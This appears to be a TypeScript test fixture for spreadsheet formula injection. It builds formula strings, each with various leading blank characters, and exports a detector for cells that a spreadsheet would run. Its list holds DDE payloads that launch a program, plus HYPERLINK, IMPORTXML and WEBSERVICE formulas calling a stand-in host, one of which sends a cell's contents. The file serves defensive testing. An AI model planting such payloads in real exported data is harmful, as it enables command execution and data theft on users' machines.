/**
 * Texts that a spreadsheet program would run as formulas: each formula prefix, after each prefix that such programs
 * ignore.
 */
const commands = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
  '=1;=2',
  '+61400000000',
  '=\n1',
];
const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '"', "'", ' \t ', '\r\n'];

export const formulas: readonly string[] = before.flatMap((blank) =>
  commands.map((command) => blank + command),
);

/** A cell that a spreadsheet program would run. A leading apostrophe makes it text. */
export const isLiveCell = (cell: string): boolean =>
  /^[\s\p{Cf}"']*[=+\-@|%＝＋－＠]|^[\t\r\n]/u.test(cell) && !cell.startsWith("'");
